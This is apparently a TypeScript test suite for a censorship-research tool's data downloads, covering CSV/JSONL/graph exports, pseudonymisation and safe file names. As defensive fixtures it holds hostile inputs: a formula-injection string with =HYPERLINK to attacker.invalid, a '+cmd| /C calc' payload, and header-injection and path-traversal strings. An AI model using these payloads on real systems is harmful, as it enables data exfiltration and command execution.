/**
 * Downloads of every view (issue 14, item 1), on both store backends: each file parsed back with
 * an independent reader (csv-parse, JSON, graphology-gexf, fast-xml-parser) must hold exactly
 * what the store holds for that view: the posts a filter selects, a campaign's posts, network
 * and evidence, a term's posts and timeline as the real detectors stored them. Hostile texts
 * survive, spreadsheet formulas are defused, no raw account leaves unless an admin reveals
 * accounts, and the CLI writes the same bytes as the API.
 */
import { after, before, describe, it } from 'node:test';
import assert from 'node:assert/strict';
import http from 'node:http';
import { Writable } from 'node:stream';
import { parse as parseCsv } from 'csv-parse/sync';
import { XMLParser } from 'fast-xml-parser';
import { MultiUndirectedGraph } from 'graphology';
import { parse as parseGexf } from 'graphology-gexf';
import { backends, type TestStore } from '../helpers/stores.ts';
import { execFile } from 'node:child_process';
import { promisify } from 'node:util';
import { startServer, type RunningServer } from '../../src/serve/server.ts';
import { ensureSource } from '../../src/store/queries/sources.ts';
import type { PostRecord } from '../../src/store/bulk.ts';
import type { PostStatus } from '../../src/store/schema.ts';
import { runCoordination } from '../../src/detect/coordination/index.ts';
import { runTerms } from '../../src/detect/terms/index.ts';
import { terms as tokenize } from '../../src/detect/terms/tokenize.ts';
import { mulberry32 } from '../../src/util/random.ts';
import { attachment, MAX_STREAMS } from '../../src/serve/api/downloads.ts';
import { exportPosts, ExportAborted, EXPORT_COLUMNS } from '../../src/report/export-posts.ts';
import { EDGE_COLUMNS } from '../../src/report/export-campaign.ts';

const TOKEN = 'downloads-admin-token';

/**
 * Runs the real CLI without blocking this process: the server under test lives here, and a
 * blocked event loop (spawnSync) makes its keep-alive timers fire late, racing the next request.
 */
async function cli(args: string[], env: Record<string, string>): Promise<{ status: number; stdout: string; stderr: string }> {
  try {
    const r = await promisify(execFile)(process.execPath, ['bin/censorscope.js', ...args], { env: { ...process.env, ...env }, maxBuffer: 64 * 1024 * 1024, encoding: 'utf8' });
    return { status: 0, stdout: r.stdout, stderr: r.stderr };
  } catch (err) {
    const e = err as { code?: number; stdout?: string; stderr?: string };
    return { status: typeof e.code === 'number' ? e.code : 1, stdout: e.stdout ?? '', stderr: e.stderr ?? '' };
  }
}
const MARKER = 'zqx';
const T0 = Date.UTC(2025, 2, 1, 0, 0, 0);
const DAY = 86_400_000;
const WORDS = ['天气', '学生', '广场', '午饭', '电影', '音乐', '维权', '上访', 'weather', 'lunch', 'Music', 'protest'];
/** Texts a spreadsheet, a CSV reader or an XML parser could mistake for something else. */
const HOSTILE = [
  '=HYPERLINK("http://attacker.invalid/?x="&A1,"点我") 维权 大家一起来转发',
  '+cmd|\' /C calc\'!A0 "引号" 与 <b>标签</b> & 符号',
  '-5 degrees\r\nsecond line\nthird\tcolumn 维权',
  '@SUM(1+1) </data></edge><node id="x"/> ]]> 维权',
];
/** Near-identical texts several accounts post within minutes: the coordination detector's campaign. */
const CAMPAIGN = [
  '=我们坚决支持这项伟大的政策，人民群众一致拥护，这是历史的选择 "转发" <script>alert(1)</script>',
  '外国势力的抹黑不会得逞，真相终将大白于天下，大家一起来转发\r\n第二行 & <i>更多</i>',
  '经济发展取得了举世瞩目的成就，老百姓的日子越过越红火了呢，@zqxh_0 你说是不是',
];

/** Organic posts by 30 accounts over ten days (维权 removed far more often), hostile texts, and a planted campaign. */
function fixture(): PostRecord[] {
  const rand = mulberry32(11);
  const out: PostRecord[] = [];
  const account = (i: number) => ({ accountId: `zqxid-${i}`, accountHandle: `zqxh_${i}`, accountName: `Zqx Name ${i}` });
  for (let i = 0; i < 600; i++) {
    const a = Math.floor(rand() * 30);
    const words = [WORDS[Math.floor(rand() * WORDS.length)]!, WORDS[Math.floor(rand() * WORDS.length)]!];
    const text = i % 60 === 7 ? HOSTILE[((i / 60) | 0) % HOSTILE.length]! : `${words.join(' ')} 第${i}条`;
    const sensitive = tokenize(text).has('维权');
    const r = rand();
    const status: PostStatus = r < (sensitive ? 0.5 : 0.05) ? 'removed_by_platform' : r < 0.6 && r > 0.55 ? 'deleted' : 'visible';
    out.push({
      platformPostId: `p${i}`, ...account(a), createdAt: T0 + Math.floor((i / 600) * 10 * DAY), text, language: 'zh',
      url: `https://example.invalid/@zqxh_${a}/p${i}`, replyToId: null, repostOfId: null, hashtags: null, urls: null,
      mentions: i % 5 === 0 ? [`zqxh_${(a + 1) % 30}`] : null, status, statusChangedAt: status === 'visible' ? null : T0 + 11 * DAY,
      statusEvidence: status === 'visible' ? null : { checked: `https://example.invalid/@zqxh_${a}/p${i}` }, extra: null,
    });
  }
  CAMPAIGN.forEach((text, m) => [40, 41, 42, 43].forEach((a, k) => out.push({
    platformPostId: `c${m}-${k}`, ...account(a), createdAt: T0 + 3 * DAY + m * 3_600_000 + k * 60_000, text: k % 2 ? `${text}！` : text,
    language: 'zh', url: null, replyToId: null, repostOfId: null, hashtags: null, urls: null, mentions: null,
    status: 'visible', statusChangedAt: null, statusEvidence: null, extra: null,
  })));
  return out;
}

interface StoredPost { id: number; platform_post_id: string; source_id: number; account_id: number | null; created_at: number; text: string; status: string }

for (const b of backends()) {
  describe(`downloads of every view [${b.label}]`, () => {
    let t: TestStore;
    let server: RunningServer;
    let all: StoredPost[];
    let campaignKey: string;
    let sourceId: number;

    before(async () => {
      t = await b.open();
      const src = await ensureSource(t.store, { name: 'dl-fixture', kind: 'import', platform: 'test' });
      sourceId = Number(src.id);
      await t.store.bulkWriter().writePosts(sourceId, fixture(), T0 + 20 * DAY);
      // A second source, so the source filter has something to leave out; it follows one account, whose handle is in its name.
      const other = await ensureSource(t.store, { name: 'follows @zqxh_other', kind: 'mastodon', platform: 'mastodon', config: { url: 'https://m.example.invalid/', account: 'zqxh_other' } });
      await t.store.bulkWriter().writePosts(Number(other.id), [{ platformPostId: 'o1', accountId: 'zqxid-other', accountHandle: 'zqxh_other', accountName: null, createdAt: T0 + DAY, text: '维权 其他来源', language: 'zh', url: null, replyToId: null, repostOfId: null, hashtags: null, urls: null, mentions: null, status: 'removed_by_platform', statusChangedAt: T0 + 2 * DAY, statusEvidence: null, extra: null }], T0 + 20 * DAY);
      const coordination = await runCoordination(t.store, { workers: 0 });
      const planted = coordination.details.find((c) => c.accounts.includes('zqxid-40'));
      assert.ok(planted, 'the coordination detector finds the planted campaign');
      campaignKey = planted.id;
      await runTerms(t.store, { minPosts: 5, fdr: 1 });
      all = (await t.store.db.selectFrom('posts').select(['id', 'platform_post_id', 'source_id', 'account_id', 'created_at', 'text', 'status']).orderBy('id').execute())
        .map((r) => ({ ...r, id: Number(r.id), source_id: Number(r.source_id), account_id: r.account_id === null ? null : Number(r.account_id), created_at: Number(r.created_at) }));
      server = await startServer(t.store, { port: 0, token: TOKEN, rateLimit: { max: 100_000, timeWindowMs: 10_000 } });
    });
    after(async () => {
      await server?.close();
      await t?.cleanup();
    });

    const get = async (path: string) => {
      const res = await fetch(server.url + path);
      const text = await res.text();
      assert.equal(res.status, 200, `GET ${path}: ${text.slice(0, 300)}`);
      return { text, res };
    };
    const csvRows = (text: string) => parseCsv(text, { columns: true, skip_empty_lines: true, relax_column_count: false }) as Array<Record<string, string>>;
    const jsonl = (text: string) => text.split('\n').filter(Boolean).map((l) => JSON.parse(l) as Record<string, unknown>);

    /** Every post GET /api/posts lists for a filter, following its paging to the end, in store id order (the list itself is in time order). */
    async function listed(params: Record<string, string>): Promise<string[]> {
      const ids: number[] = [];
      let before: number | null | undefined;
      for (;;) {
        const q = new URLSearchParams({ ...params, limit: '200', ...(before ? { before: String(before) } : {}) });
        const page = await (await fetch(`${server.url}/api/posts?${q}`)).json() as { items: Array<{ id: number }>; next: number | null };
        for (const p of page.items) ids.push(p.id);
        if (page.next === null) return ids.sort((a, b) => a - b).map((id) => all.find((x) => x.id === id)!.platform_post_id);
        before = page.next;
      }
    }

    it('the filtered post list: CSV and JSONL hold exactly the posts the filter selects, all of them, in id order', async () => {
      const someAccount = all.find((p) => p.platform_post_id === 'p3')!.account_id!;
      const cases: Array<[Record<string, string>, (p: StoredPost) => boolean]> = [
        [{}, () => true],
        [{ q: '维权' }, (p) => p.text.includes('维权')],
        [{ status: 'removed_by_platform' }, (p) => p.status === 'removed_by_platform'],
        [{ q: 'lunch', status: 'visible' }, (p) => p.text.includes('lunch') && p.status === 'visible'],
        [{ source: String(sourceId), status: 'removed_by_platform' }, (p) => p.source_id === sourceId && p.status === 'removed_by_platform'],
        [{ account: String(someAccount) }, (p) => p.account_id === someAccount],
        [{ from: new Date(T0 + 2 * DAY).toISOString(), to: String(T0 + 5 * DAY) }, (p) => p.created_at >= T0 + 2 * DAY && p.created_at < T0 + 5 * DAY],
        [{ q: '"引号"' }, (p) => p.text.includes('"引号"')],
        [{ q: '100%_' }, (p) => p.text.includes('100%_')],
      ];
      for (const [filter, keep] of cases) {
        const expected = all.filter(keep).map((p) => p.platform_post_id);
        const qs = new URLSearchParams(filter).toString();
        const csv = csvRows((await get(`/api/downloads/posts?${qs}`)).text);
        assert.deepEqual(csv.map((r) => r.platform_post_id), expected, `CSV for ${qs || 'no filter'}`);
        const lines = jsonl((await get(`/api/downloads/posts?format=jsonl&${qs}`)).text);
        assert.deepEqual(lines.map((r) => r.platform_post_id), expected, `JSONL for ${qs || 'no filter'}`);
        // The same posts as the post list, paged to its end: one meaning for every filter.
        assert.deepEqual(await listed(filter), expected, `GET /api/posts for ${qs || 'no filter'}`);
      }
      assert.ok(all.filter((p) => p.text.includes('维权')).length > 30, 'the search case selects many posts');
    });

    it('keeps the columns of `export posts`, defuses formulas in CSV and keeps hostile texts exact in JSONL', async () => {
      const { text, res } = await get('/api/downloads/posts?q=%E7%BB%B4%E6%9D%83');
      assert.equal(res.headers.get('content-type'), 'text/csv; charset=utf-8');
      assert.match(res.headers.get('content-disposition') ?? '', /^attachment; filename="censorscope-posts_q-_\.csv"; filename\*=UTF-8''censorscope-posts_q-%E7%BB%B4%E6%9D%83\.csv$/);
      assert.deepEqual(Object.keys(csvRows(text)[0]!), [...EXPORT_COLUMNS]);
      const lines = jsonl((await get('/api/downloads/posts?format=jsonl')).text);
      const csv = csvRows((await get('/api/downloads/posts')).text);
      for (const h of HOSTILE) {
        const i = lines.findIndex((l) => l.text === h);
        assert.ok(i >= 0, `JSONL keeps ${JSON.stringify(h)} exactly`);
        assert.equal(csv[i]!.text, /^[=+\-@]/.test(h) ? `'${h}` : h, 'CSV defuses a formula and keeps the rest');
      }
      const c = lines.find((l) => String(l.text).startsWith('=我们'))!;
      assert.equal(csv[lines.indexOf(c)]!.text, `'${String(c.text)}`);
    });

    it('pseudonymises every account unless an admin reveals them, as `export posts` does', async () => {
      const paths = ['/api/downloads/posts', '/api/downloads/posts?format=jsonl', `/api/downloads/campaigns/${campaignKey}/posts`,
        `/api/downloads/campaigns/${campaignKey}/network`, `/api/downloads/campaigns/${campaignKey}/network?format=graphml`,
        `/api/downloads/campaigns/${campaignKey}/edges`, `/api/downloads/terms/${encodeURIComponent('维权')}/posts?format=jsonl`];
      for (const p of paths) {
        const { text } = await get(p);
        // The campaign's third text mentions @zqxh_0 inside the post text, which is kept as written (README, Privacy).
        const scrubbed = text.replaceAll('@zqxh_0 你说是不是', '');
        assert.ok(!scrubbed.toLowerCase().includes(MARKER), `${p} leaks a raw account: ${scrubbed.slice(scrubbed.toLowerCase().indexOf(MARKER) - 80, scrubbed.toLowerCase().indexOf(MARKER) + 40)}`);
        assert.match(text, /acct_[0-9a-f]{20}/, `${p} names accounts by pseudonym`);
      }
      const put = (reveal: boolean) => fetch(`${server.url}/api/settings`, { method: 'PUT', headers: { 'content-type': 'application/json', authorization: `Bearer ${TOKEN}` }, body: JSON.stringify({ revealAccounts: reveal }) });
      assert.equal((await put(true)).status, 200);
      try {
        for (const p of paths) assert.match((await get(p)).text, /zqxid-|zqxh_/, `${p} shows real accounts once revealed`);
      } finally {
        assert.equal((await put(false)).status, 200);
      }
    });

    it("a campaign's posts are the posts its finding names", async () => {
      const row = await t.store.db.selectFrom('findings').select('evidence').where('kind', '=', 'campaign').where('key', '=', campaignKey).executeTakeFirstOrThrow();
      const ev = JSON.parse(row.evidence!) as { postIds: number[] };
      const expected = all.filter((p) => ev.postIds.includes(p.id)).map((p) => p.platform_post_id);
      assert.ok(expected.length >= 12, `the planted campaign has its 12 posts (${expected.length})`);
      assert.deepEqual(csvRows((await get(`/api/downloads/campaigns/${campaignKey}/posts`)).text).map((r) => r.platform_post_id), expected);
      assert.deepEqual(jsonl((await get(`/api/downloads/campaigns/${campaignKey}/posts?format=jsonl`)).text).map((r) => r.platform_post_id), expected);
    });

    it("a campaign's network: GEXF and GraphML parse back to the campaign's accounts and edges, each edge with its evidence", async () => {
      const api = await (await fetch(`${server.url}/api/campaigns/${campaignKey}`)).json() as {
        graph: { nodes: Array<{ id: string }>; edges: Array<{ source: string; target: string; weight: number; edge_type: string }> };
        evidence: { edges: Array<{ source: string; target: string; edge_type: string; evidence: Array<Array<{ source: string; platform_post_id: string } | null>> }> };
      };
      const edgeKey = (e: { source: string; target: string; edge_type: string; weight: number }) => `${[e.source, e.target].sort().join('~')}/${e.edge_type}/${e.weight}`;
      const wantEdges = api.graph.edges.map(edgeKey).sort();
      assert.ok(wantEdges.length >= 6, 'four accounts posting alike: every pair is linked');
      const { text: gexf, res } = await get(`/api/downloads/campaigns/${campaignKey}/network`);
      assert.equal(res.headers.get('content-type'), 'application/gexf+xml; charset=utf-8');
      const g = parseGexf(MultiUndirectedGraph, gexf);
      assert.deepEqual(g.nodes().sort(), api.graph.nodes.map((n) => n.id).sort());
      const got = g.mapEdges((_k, a, s, tt) => edgeKey({ source: s, target: tt, edge_type: String(a.edge_type), weight: Number(a.weight) })).sort();
      assert.deepEqual(got, wantEdges);
      g.forEachEdge((_k, a, s, tt) => {
        const e = api.evidence.edges.find((x) => x.edge_type === a.edge_type && [x.source, x.target].sort().join() === [s, tt].sort().join())!;
        assert.deepEqual(JSON.parse(String(a.evidence)), e.evidence.map((pair) => pair.map((r) => (r ? [r.source, r.platform_post_id] : null))));
      });
      g.forEachNode((_k, a) => assert.ok(Number(a.posts) >= 3, 'each account wrote three of the campaign\'s posts'));

      const xml = (await get(`/api/downloads/campaigns/${campaignKey}/network?format=graphml`)).text;
      const doc = new XMLParser({ ignoreAttributes: false, attributeNamePrefix: '', isArray: (n, _path, _leaf, isAttribute) => !isAttribute && ['node', 'edge', 'data', 'key'].includes(n), parseTagValue: false }).parse(xml) as {
        graphml: { graph: { node: Array<{ id: string }>; edge: Array<{ source: string; target: string; data: Array<{ key: string; '#text': string }> }> } };
      };
      assert.deepEqual(doc.graphml.graph.node.map((n) => n.id).sort(), api.graph.nodes.map((n) => n.id).sort());
      const data = (e: { data: Array<{ key: string; '#text': string }> }, k: string) => e.data.find((d) => d.key === k)?.['#text'] ?? '';
      assert.deepEqual(doc.graphml.graph.edge.map((e) => edgeKey({ source: e.source, target: e.target, edge_type: data(e, 'edge_type'), weight: Number(data(e, 'weight')) })).sort(), wantEdges);
      assert.ok(doc.graphml.graph.edge.every((e) => JSON.parse(data(e, 'evidence')).length > 0), 'every GraphML edge carries its evidence');
    });

    it("a campaign's edge CSV: every row is one coordinated post pair with both posts' accounts, times and exact texts", async () => {
      const { text } = await get(`/api/downloads/campaigns/${campaignKey}/edges`);
      const rows = csvRows(text);
      assert.deepEqual(Object.keys(rows[0]!), [...EDGE_COLUMNS]);
      const row = await t.store.db.selectFrom('findings').select('evidence').where('kind', '=', 'campaign').where('key', '=', campaignKey).executeTakeFirstOrThrow();
      const ev = JSON.parse(row.evidence!) as { edges: Array<{ weight: number; edge_type: string; evidence: Array<[number, number]> }> };
      assert.equal(rows.length, ev.edges.reduce((n, e) => n + Math.max(1, e.evidence.length), 0), 'one row per stored pair');
      const byPlatformId = new Map(all.map((p) => [p.platform_post_id, p]));
      const defused = (s: string) => (/^[=+\-@\t\r]/.test(s) ? `'${s}` : s);
      ev.edges.forEach((e, i) => {
        const mine = rows.filter((r) => r.edge === String(i + 1));
        assert.equal(mine.length, Math.max(1, e.evidence.length));
        e.evidence.forEach(([a, bId], j) => {
          const r = mine[j]!;
          assert.equal(r.edge_type, e.edge_type);
          assert.equal(Number(r.weight), e.weight);
          for (const [side, id] of [['a', a], ['b', bId]] as const) {
            const stored = all.find((p) => p.id === id)!;
            assert.equal(r[`${side}_post_id`], stored.platform_post_id);
            assert.equal(r[`${side}_source`], 'dl-fixture');
            assert.equal(r[`${side}_created_at`], new Date(stored.created_at).toISOString());
            assert.equal(r[`${side}_text`], defused(stored.text), 'the text as stored, formulas defused');
            assert.match(r[`${side}_account`]!, /^acct_[0-9a-f]{20}$/);
          }
        });
      });
      assert.ok(rows.some((r) => r.a_text!.includes('\r\n第二行 & <i>更多</i>')), 'CR LF, & and < survive in a cell');
      assert.ok(rows.every((r) => byPlatformId.get(r.a_post_id!)?.text.startsWith(r.a_text!.replace(/^'/, '').slice(0, 10))));
    });

    it("a term's posts are the posts the terms run counted for it, and its timeline is the run's", async () => {
      const finding = await t.store.db.selectFrom('findings').select('evidence').where('kind', '=', 'terms').where('key', '=', 'latest').executeTakeFirstOrThrow();
      const ev = JSON.parse(finding.evidence!) as { terms: Array<{ term: string; posts: number; removed: number }>; timeline: Record<string, Array<{ bucket: string; posts: number; removed: number }>> };
      const checked = ev.terms.filter((x) => ['维权', 'lunch', 'music'].includes(x.term));
      assert.ok(checked.some((x) => x.term === '维权'), `the terms run reports 维权 (${ev.terms.map((x) => x.term).slice(0, 10).join(', ')})`);
      for (const term of checked) {
        const path = `/api/downloads/terms/${encodeURIComponent(term.term)}`;
        const posts = jsonl((await get(`${path}/posts?format=jsonl`)).text);
        assert.equal(posts.length, term.posts, `${term.term}: as many posts as the run counted`);
        assert.equal(posts.filter((p) => p.status === 'removed_by_platform').length, term.removed, `${term.term}: as many removed`);
        assert.ok(posts.every((p) => tokenize(String(p.text)).has(term.term)));
        assert.deepEqual(csvRows((await get(`${path}/posts`)).text).map((r) => r.platform_post_id), posts.map((p) => p.platform_post_id));
        const csv = csvRows((await get(`${path}/timeline`)).text);
        const json = JSON.parse((await get(`${path}/timeline?format=json`)).text) as { timezone: string; timeline: Array<{ day: string; posts: number; removed: number; low: number; high: number }> };
        const stored = ev.timeline[term.term]!;
        assert.deepEqual(csv.map((r) => [r.day, Number(r.posts), Number(r.removed)]), stored.map((p) => [p.bucket, p.posts, p.removed]));
        assert.deepEqual(json.timeline.map((r) => [r.day, r.posts, r.removed]), stored.map((p) => [p.bucket, p.posts, p.removed]));
        assert.equal(json.timezone, 'UTC');
        assert.ok(json.timeline.every((r) => r.low <= r.removed / r.posts && r.removed / r.posts <= r.high), 'each rate lies in its interval');
        assert.equal(json.timeline.reduce((n, r) => n + r.posts, 0), term.posts, 'the days add up to the term');
      }
      assert.equal((await fetch(`${server.url}/api/downloads/terms/${encodeURIComponent('不存在的词')}/posts`)).status, 404);
      assert.equal((await fetch(`${server.url}/api/downloads/campaigns/cmp-nope/edges`)).status, 404);
    });

    it('the CLI writes the same bytes as the API', async () => {
      const term = encodeURIComponent('维权');
      // Each CLI run is a process start (seconds on a loaded machine): one of each kind of writer.
      const pairs: Array<[string[], string]> = [
        [['export', 'posts', '--search', '维权', '--status', 'removed_by_platform', '--from', String(T0 + DAY), '--to', new Date(T0 + 9 * DAY).toISOString()],
          `/api/downloads/posts?q=%E7%BB%B4%E6%9D%83&status=removed_by_platform&from=${T0 + DAY}&to=${new Date(T0 + 9 * DAY).toISOString()}`],
        [['export', 'campaign', campaignKey, 'edges'], `/api/downloads/campaigns/${campaignKey}/edges`],
        [['export', 'campaign', campaignKey, 'network', '--format', 'graphml'], `/api/downloads/campaigns/${campaignKey}/network?format=graphml`],
        [['export', 'term', '维权', 'posts', '--format', 'jsonl'], `/api/downloads/terms/${term}/posts?format=jsonl`],
      ];
      for (const [args, path] of pairs) {
        const r = await cli(args, t.env);
        assert.equal(r.status, 0, `${args.join(' ')}: ${r.stderr}`);
        const api = (await get(path)).text;
        assert.ok(api.length > 100, path);
        assert.equal(r.stdout, api, `censorscope ${args.join(' ')} = GET ${path}`);
      }
      const bad = await cli(['export', 'posts', '--status', 'gone'], t.env);
      assert.notEqual(bad.status, 0);
      assert.match(bad.stderr, /--status: /);
      const missing = await cli(['export', 'campaign', 'cmp-nope', 'edges'], t.env);
      assert.notEqual(missing.status, 0);
      assert.match(missing.stderr, /No campaign has id "cmp-nope"/);
    });

    it('bad filters get a 400 naming the parameter', async () => {
      for (const [qs, param] of [['status=gone', 'status'], ['from=yesterday', 'from'], [`account=${'x'.repeat(201)}`, 'account'], ['format=xlsx', 'format'], [`from=${T0 + DAY}&to=${T0}`, 'from']]) {
        const res = await fetch(`${server.url}/api/downloads/posts?${qs}`);
        assert.equal(res.status, 400, qs);
        assert.equal(((await res.json()) as { error: { param: string } }).error.param, param, qs);
      }
    });

    it('a search with CR LF and quotes cannot inject a header or a path into the file name', async () => {
      const res = await fetch(`${server.url}/api/downloads/posts?q=${encodeURIComponent('a"\r\nSet-Cookie: pwned=1; ../../etc/passwd')}`);
      assert.equal(res.status, 200);
      await res.text();
      assert.equal(res.headers.get('set-cookie'), null);
      const cd = res.headers.get('content-disposition')!;
      assert.match(cd, /^attachment; filename="[A-Za-z0-9._-]+\.csv"; filename\*=UTF-8''[A-Za-z0-9._%-]+\.csv$/);
      assert.ok(!cd.includes('/') && !cd.includes('..') && !cd.includes('\\'), cd);
    });

    it('the downloads are in /openapi.json with their media types', async () => {
      const doc = await (await fetch(`${server.url}/openapi.json`)).json() as { paths: Record<string, { get?: { parameters: Array<{ name: string; in: string }>; responses: Record<string, { content: Record<string, unknown> }> } }> };
      const want: Record<string, string[]> = {
        '/api/downloads/posts': ['text/csv', 'application/x-ndjson'],
        '/api/downloads/campaigns/{id}/posts': ['text/csv', 'application/x-ndjson'],
        '/api/downloads/campaigns/{id}/network': ['application/gexf+xml', 'application/graphml+xml'],
        '/api/downloads/campaigns/{id}/edges': ['text/csv'],
        '/api/downloads/terms/{term}/posts': ['text/csv', 'application/x-ndjson'],
        '/api/downloads/terms/{term}/timeline': ['text/csv', 'application/json'],
      };
      for (const [p, types] of Object.entries(want)) assert.deepEqual(Object.keys(doc.paths[p]?.get?.responses['200']?.content ?? {}), types, p);
      // The post list's filters, exactly: a filter added to the list and not to its download fails here.
      const names = (p: string) => doc.paths[p]!.get!.parameters.filter((x) => x.in === 'query').map((x) => x.name).sort();
      assert.deepEqual(names('/api/downloads/posts').filter((n) => n !== 'format'), names('/api/posts').filter((n) => n !== 'before' && n !== 'limit'));
    });
  });
}

describe('downloads: file names, backpressure and cancelled downloads', () => {
  it('builds a safe Content-Disposition from any name', () => {
    assert.equal(attachment('censorscope-term-维权-posts', 'csv'), `attachment; filename="censorscope-term-_-posts.csv"; filename*=UTF-8''censorscope-term-%E7%BB%B4%E6%9D%83-posts.csv`);
    for (const evil of ['x"\r\nSet-Cookie: a=b', '../../etc/passwd', '..\\..\\win.ini', "it's (a) *test*!", '\u2028\u0000;,%']) {
      const cd = attachment(evil, 'csv');
      assert.match(cd, /^attachment; filename="[A-Za-z0-9._-]+\.csv"; filename\*=UTF-8''[A-Za-z0-9._%~-]+\.csv$/, cd);
      assert.ok(!/filename="\./.test(cd) && !cd.includes('/'), cd);
    }
    assert.ok(attachment('词'.repeat(500), 'csv').length < 1200, 'long names are cut');
  });

  for (const b of backends().slice(0, 1)) {
    it('waits for a slow reader instead of buffering, and stops when the reader goes away', async () => {
      const t = await b.open();
      try {
        const src = await ensureSource(t.store, { name: 'many', kind: 'import', platform: 'test' });
        await t.store.bulkWriter().writePosts(Number(src.id), Array.from({ length: 3000 }, (_, i) => ({
          platformPostId: `m${i}`, accountId: `a${i % 7}`, accountHandle: null, accountName: null, createdAt: T0 + i, text: `text ${i}`, language: null,
          url: null, replyToId: null, repostOfId: null, hashtags: null, urls: null, mentions: null, status: 'visible' as const, statusChangedAt: null, statusEvidence: null, extra: null,
        })), T0);
        // A reader that never drains: the export must stop after its first page and wait.
        let written = 0;
        const stuck = new Writable({ highWaterMark: 16, write: () => undefined });
        const running = exportPosts(t.store, stuck, { format: 'jsonl', pageSize: 100, onRows: (n) => { written += n; } });
        await new Promise((r) => setTimeout(r, 300));
        assert.ok(written <= 100, `the export waited for the reader (${written} rows written)`);
        stuck.destroy();
        await assert.rejects(running, ExportAborted);
      } finally {
        await t.cleanup();
      }
    });

    it(`serves at most ${MAX_STREAMS} streamed downloads at once and frees a cancelled one`, async () => {
      const t = await b.open();
      let server: RunningServer | undefined;
      let held: http.ClientRequest[] = [];
      try {
        const src = await ensureSource(t.store, { name: 'big', kind: 'import', platform: 'test' });
        const long = 'x'.repeat(4000);
        await t.store.bulkWriter().writePosts(Number(src.id), Array.from({ length: 6000 }, (_, i) => ({
          platformPostId: `b${i}`, accountId: `a${i % 50}`, accountHandle: null, accountName: null, createdAt: T0 + i, text: `${i} ${long}`, language: null,
          url: null, replyToId: null, repostOfId: null, hashtags: null, urls: null, mentions: null, status: 'visible' as const, statusChangedAt: null, statusEvidence: null, extra: null,
        })), T0);
        server = await startServer(t.store, { port: 0 });
        // Readers that take the headers and stop reading: each download (24 MB) waits on its reader.
        held = await Promise.all(Array.from({ length: MAX_STREAMS }, () => new Promise<http.ClientRequest>((resolve, reject) => {
          const req = http.get(`${server!.url}/api/downloads/posts?format=jsonl`, (res) => {
            res.pause();
            if (res.statusCode === 200) resolve(req);
            else reject(new Error(`download answered ${res.statusCode}`));
          });
          req.on('error', () => undefined);
        })));
        const refused = await fetch(`${server.url}/api/downloads/posts`);
        if (refused.status !== 429) await refused.body?.cancel();
        assert.equal(refused.status, 429, 'a fifth download is refused while four stream');
        assert.match(((await refused.json()) as { error: { message: string } }).error.message, /already streaming 4 downloads/);
        // Cancelled as a browser cancels: the connection closes mid-file.
        for (const req of held) req.destroy();
        // The cancelled downloads end and free their places.
        let status = 0;
        for (let i = 0; i < 50 && status !== 200; i++) {
          await new Promise((r) => setTimeout(r, 100));
          const res = await fetch(`${server.url}/api/downloads/posts?status=deleted`);
          status = res.status;
          await res.text();
        }
        assert.equal(status, 200, 'a new download is served once the cancelled ones have stopped');
      } finally {
        // A failed assertion must not leave paused downloads holding the server open.
        for (const req of held) req.destroy();
        await server?.close();
        await t.cleanup();
      }
    });
  }
});
